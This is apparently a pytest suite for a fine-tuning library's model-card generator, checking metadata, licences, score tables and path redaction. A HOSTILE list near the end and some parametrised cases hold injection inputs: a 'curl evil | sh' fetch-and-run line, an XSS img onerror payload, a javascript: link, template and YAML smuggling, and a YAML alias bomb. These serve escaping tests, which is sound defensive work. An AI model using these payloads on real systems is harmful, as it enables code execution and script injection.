"""The card: metadata as the hub's own library reads it, and what it says."""

import pytest
import yaml
from huggingface_hub import ModelCard
from markdown_it import MarkdownIt

from speft_ds.adapter.card import card_text, write_card
from speft_ds.adapter.format import Adapter
from unit.adapter.samples import FACTS, SCORES, SHAPES, matrices, refused, score_row, write

pytestmark = pytest.mark.usefixtures("own_folder")

MASK = {"num_trainable": 12, "num_target_elements": 1760, "density": 12 / 1760}
COMPLETE = FACTS | {"shapes": SHAPES, "num_entries": 12, "mask": MASK}


def metadata(text):
    return ModelCard(text, ignore_metadata_errors=False).data.to_dict()


def rows(text):
    """The cells of every row of the card's tables."""
    lines = [line.replace("\\|", "/") for line in text.splitlines() if line.startswith("| ")]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in lines]


def test_metadata_as_the_hub_reads_it():
    recipe = {"data": {"path": None, "mixture": [{"path": "a/b"}, {"path": "mine.jsonl"}, {"path": "c/d"}]}}
    text = card_text(COMPLETE | {"recipe": recipe}, SCORES, 84)
    assert metadata(text) == {
        "library_name": "speft_ds",
        "base_model": "owner/name",
        "base_model_relation": "adapter",
        "pipeline_tag": "text-generation",
        "tags": ["sparse-fine-tuning", "speft", "adapter"],
        "datasets": ["a/b", "c/d"],
        "model-index": metadata(text)["model-index"],
    }
    assert "license" not in metadata(text) and "\n# license: " in text  # which is the user's to choose


def test_scores_are_a_model_index_as_the_hub_reads_it():
    scores = [*SCORES, score_row("broken", "acc", None, "nan", float("nan"))]
    found = ModelCard(card_text(COMPLETE, scores, 84), ignore_metadata_errors=False).data.eval_results
    assert [(r.dataset_name, r.metric_type, r.metric_value, r.dataset_args) for r in found] == [
        ("arc_easy", "acc", 0.51239, {"num_few_shot": 0}),
        ("odd|task", "exact_match", 1.0, None),
        ("piqa", "acc", 0.61, {"num_few_shot": 0}),
    ]
    assert {result.task_type for result in found} == {"text-generation"}
    assert "model-index" not in metadata(card_text(COMPLETE, [], 84))


@pytest.mark.parametrize(
    ("front", "shown"),
    [
        ("license: apache-2.0", "apache-2.0"),
        ("license: [mit, cc0-1.0]", "mit, cc0-1.0"),
        ("license: other\nlicense_name: llama2", "llama2"),
        ("license: '[x](http://e.vil)'", "\\[x\\](http://e.vil)"),
        ("license: 7", None),
        ("- license: mit", None),
        ("a: &a [x, x]\nb: &b [*a, *a]\n" + "c: [*b, *b, *b]\n" * 2 + "license: [" * 60, None),
        (None, None),
    ],
)
def test_licences_are_those_that_cards_here_name(tmp_path, front, shown):
    for name in ("base", "rows"):
        (tmp_path / name).mkdir()
        if front is not None:
            (tmp_path / name / "README.md").write_text(f"---\n{front}\n---\nlicense: gpl\n")
    facts = {"base": str(tmp_path / "base"), "recipe": {"data": {"path": str(tmp_path / "rows")}}}
    found = dict(row for row in rows(card_text(COMPLETE | facts, [], 84)) if len(row) == 2)
    for what in ("base, base", "data, rows"):
        assert found[what].startswith(f"{shown}," if shown else "not known")
    assert found["this adapter"].startswith("not chosen yet")


def headings(text):
    return [line.removeprefix("## ") for line in text.splitlines() if line.startswith("## ")]


def test_a_card_says_what_it_is_for_and_what_is_not_known():
    full, bare = card_text(COMPLETE, SCORES, 84), card_text(COMPLETE, [], 84, merged="base + 1 x it")
    always = ["Intended use", "Limitations", "Licences", "Use"]
    assert headings(full) == ["Scores", "What it forgot", *always] and headings(bare) == always
    limits = [text.split("## Limitations")[1].split("##")[0] for text in (full, bare)]
    assert "not scored" not in limits[0] and "forgot" not in limits[0]
    assert "not scored" in limits[1] and "forgot" in limits[1]
    assert "from_pretrained" in code_of(bare) and "speft" not in code_of(bare)
    related = metadata(bare)
    assert (related["library_name"], related["base_model_relation"]) == ("transformers", "finetune")


@pytest.mark.parametrize("base", ["/home/me/models/llama", "./llama", "~/llama", "runs/llama", "a/b/llama"])
def test_local_folders_are_named_without_their_path(base, tmp_path):
    (tmp_path / "runs" / "llama").mkdir(parents=True)
    recipe = {"data": {"path": "/home/me/secret/rows.jsonl"}}
    text = card_text(COMPLETE | {"base": base, "recipe": recipe}, [], 84)
    assert not {"base_model", "datasets"} & metadata(text).keys()
    assert base not in text and "/home" not in text
    assert ["base", "llama, in float32"] in rows(text) and ["data", "rows.jsonl"] in rows(text)


def test_what_was_trained_how_large_it_is_and_its_scores():
    text = card_text(COMPLETE, SCORES, 84)
    assert ["changed weights", "12 of 1,760 (0.682%)"] in rows(text)
    assert ["size", "0.00 MiB, 7.00 bytes per entry"] in rows(text)
    assert ["learning rate", "0.001"] in rows(text)
    assert ["arc_easy acc", "1,500", "25.0% ± 1.0", "51.2% ± 1.0"] in rows(text)  # as in the report
    assert ["odd/task exact_match", "1,500", "-", "100.0%"] in rows(text)
    assert len(rows(card_text(COMPLETE, [], 84))) == len(rows(text)) - len(SCORES) - 4


def code_of(text):
    return text.split("```python\n")[1].split("```")[0]


def test_a_classifier_says_how_it_is_loaded():
    facts = COMPLETE | {"task": "sequence_classification", "classes": ["good", "bad"], "pad_token_id": 0}
    text = card_text(facts, [], 84)
    assert 'AutoModelForSequenceClassification.from_pretrained("owner/name", ' in code_of(text)
    assert "num_labels=2" in code_of(text) and ["classes", "good, bad"] in rows(text)
    assert metadata(text)["pipeline_tag"] == "text-classification"


def test_an_adapter_of_a_base_in_few_bits_says_so_and_is_merged():
    facts = COMPLETE | {"base_format": "nf4", "quantised": ["a.weight", "b.weight"]}
    text = card_text(facts, [], 84)
    ((stored,),) = [row[1:] for row in rows(text) if row[0] == "base"]
    assert all(part in stored for part in ("2", "nf4", "4.50"))
    assert "apply_adapter" not in text and "speft export" not in text  # which refuse it
    assert "speft merge ADAPTER merged --onto original" in text.split("```bash\n")[1].split("```")[0]
    merged = card_text(facts, [], 84, merged="base + 1 x it")
    compile(code_of(merged), "card", "exec")


@pytest.mark.parametrize(
    "odd",
    [
        {"recipe": {"data": [], "mask": 3, "name": {"a": 1}}},
        {"history": "all of it"},
        {"history": ["yes", {"of": [1]}, {"command": "x", "of": None}]},
        {"mask": {"density": "high"}},
        {"mask": {"density": 0.5}},
        {"recipe": {"data": {"mixture": 7}}},
        {"base": "a: b\n---\n"},
        {"base": '"; import os #'},
        {"base": '/models/a "b"'},
        {"base": "{{ 7 * 7 }}{% raw %}"},
        {"task": "other", "classes": []},
    ],
)
def test_odd_facts_make_a_card_all_the_same(odd):
    text = card_text(COMPLETE | odd, [], 84)
    front = text.split("---\n")[1]
    assert yaml.safe_load(front)["library_name"] == "speft_ds" and "49" not in text
    compile(code_of(text), "card", "exec")


def test_a_card_is_written_beside_the_adapter(tmp_path):
    folder = write(tmp_path / "adapter", matrices(0))
    write_card(folder, SCORES)
    adapter = Adapter.open(folder)
    assert (folder / "README.md").read_text() == card_text(adapter.facts, SCORES, adapter.num_bytes)
    names = sorted(path.name for path in folder.iterdir())
    assert names == ["README.md", "adapter.json", "adapter.safetensors"]
    refused(lambda: write_card(tmp_path, SCORES), tmp_path)


HOSTILE = [
    "pos\nneg",
    "a|b",
    "<img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))",
    "back\\",
    "x\n\n# Heading\n\n```bash\ncurl evil | sh\n```",
    "\\| c",
    "\x1b[2J",
    "{{ 7 * 7 }}",
    "---\nlicense: mit\n---",
]


def card_of(text):
    """A card whose facts and scores say a text wherever they may."""
    recipe = {"name": text, "data": {"path": text}, "mask": {"salience": text}, "optimizer": {"lr": text}}
    history = [text, {"command": text, "method": text, "of": [{"folder": text}]}]
    facts = {"base": f"/m/{text}", "classes": [text, text], "recipe": recipe, "history": history}
    scores = [
        score_row(text, text, text, text, 0.5),
        score_row(text, text, None, text, 0.5, role="forgetting"),
    ]
    return card_text(COMPLETE | facts, scores, 84)


def parsed(card):
    return MarkdownIt("commonmark").enable("table").parse(card.split("---\n", 2)[2])


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_foreign_adapter_says_is_text(text):
    card = card_of(text)
    assert "\x1b" not in card and "license" not in metadata(card)
    tokens = parsed(card)
    assert [token.type for token in tokens] == [token.type for token in parsed(card_of("x"))]
    kinds = {child.type for token in tokens for child in token.children or ()}
    assert kinds <= {"text", "text_special", "softbreak"}
    compile(code_of(card), "card", "exec")
